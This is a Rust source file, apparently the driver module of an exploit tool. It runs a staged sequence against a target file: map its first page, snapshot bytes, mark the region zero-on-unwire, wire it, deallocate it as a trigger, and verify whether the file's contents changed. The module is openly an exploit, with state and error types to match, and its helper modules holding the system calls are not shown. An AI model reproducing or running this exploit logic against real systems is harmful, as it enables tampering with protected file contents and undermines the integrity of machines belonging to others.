//! Driving the sequence.
//!
//! map -> snapshot -> set behavior -> wire -> deallocate -> verify, in that
//! order, stopping at the first failure. The orchestrator owns the mapped
//! region and the snapshot for the whole run.

use std::path::Path;

use log::{debug, info};
use thiserror::Error;
use unwire_abi::COMPARE_PREFIX_LEN;

use crate::error::ExploitError;
use crate::state::{ExploitState, Stage};
use crate::target::TargetFile;
use crate::verify::{Comparison, Verdict};
use crate::vm::{PageRange, VirtualMemory};
use crate::{behavior, lock, region, trigger, verify};

/// Knobs for a single run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RunConfig {
    /// Bytes snapshotted before the trigger and compared after it. Clamped
    /// to at least one byte and at most one page.
    pub compare_len: usize,
}

impl Default for RunConfig {
    fn default() -> Self {
        Self {
            compare_len: COMPARE_PREFIX_LEN,
        }
    }
}

/// Everything a completed run observed.
#[derive(Debug)]
pub struct RunReport {
    pub target: TargetFile,
    /// Where the page was mapped before the trigger removed it.
    pub region: PageRange,
    pub comparison: Comparison,
    /// Every state the run passed through, ending in `Verified`.
    pub trail: Vec<ExploitState>,
}

impl RunReport {
    pub fn verdict(&self) -> Verdict {
        self.comparison.verdict
    }
}

/// A run that stopped at a failing stage.
#[derive(Debug, Error)]
#[error("{stage} stage failed")]
pub struct RunFailure {
    pub stage: Stage,
    #[source]
    pub error: ExploitError,
    /// Every state the run passed through, ending in `Failed(stage)`.
    pub trail: Vec<ExploitState>,
}

/// Runs the trigger sequence once against a memory manager.
pub struct Orchestrator<'vm, V: VirtualMemory + ?Sized> {
    vm: &'vm V,
    config: RunConfig,
    state: ExploitState,
    trail: Vec<ExploitState>,
}

impl<'vm, V: VirtualMemory + ?Sized> Orchestrator<'vm, V> {
    pub fn new(vm: &'vm V, config: RunConfig) -> Self {
        Self {
            vm,
            config,
            state: ExploitState::Unmapped,
            trail: vec![ExploitState::Unmapped],
        }
    }

    /// Run every stage against `path`.
    ///
    /// Consumes the orchestrator: a run ends in `Verified` or `Failed`, and
    /// both are terminal. Nothing is rolled back on failure beyond dropping
    /// the mapping guard, which releases an unwired region best-effort.
    pub fn run(mut self, path: &Path) -> Result<RunReport, RunFailure> {
        info!("target: {}", path.display());
        match self.drive(path) {
            Ok((target, region, comparison)) => Ok(RunReport {
                target,
                region,
                comparison,
                trail: self.trail,
            }),
            Err(error) => {
                let stage = error.stage();
                self.enter(ExploitState::Failed(stage));
                Err(RunFailure {
                    stage,
                    error,
                    trail: self.trail,
                })
            }
        }
    }

    fn drive(
        &mut self,
        path: &Path,
    ) -> Result<(TargetFile, PageRange, Comparison), ExploitError> {
        let compare_len = self.config.compare_len.clamp(1, self.vm.page_size());

        let mapped = region::map_first_page(self.vm, path)?;
        let target = TargetFile::capture(path, &mapped, compare_len).map_err(|source| {
            ExploitError::Mapping {
                path: path.to_path_buf(),
                source,
            }
        })?;
        info!(
            "mapped {:#x} bytes at {:#018x}, saved {} bytes for comparison",
            mapped.len(),
            mapped.base(),
            target.snapshot().len()
        );
        self.complete(Stage::Map);

        behavior::mark_zero_on_unwire(&mapped)?;
        info!("region marked zero-on-unwire");
        self.complete(Stage::SetBehavior);

        lock::wire_region(&mapped)?;
        info!("region wired");
        self.complete(Stage::Lock);

        let range = mapped.range();
        trigger::release_wired(mapped)?;
        info!("wired region deallocated");
        self.complete(Stage::Trigger);

        let comparison = verify::verify(&target)?;
        info!("verification: {}", comparison.verdict);
        self.complete(Stage::Verify);

        Ok((target, range, comparison))
    }

    fn complete(&mut self, stage: Stage) {
        debug_assert_eq!(self.state.pending_stage(), Some(stage));
        if let Some(next) = self.state.successor() {
            self.enter(next);
        }
    }

    fn enter(&mut self, next: ExploitState) {
        debug_assert!(self.state.transition(next).is_ok());
        debug!("{:?} -> {:?}", self.state, next);
        self.state = next;
        self.trail.push(next);
    }
}
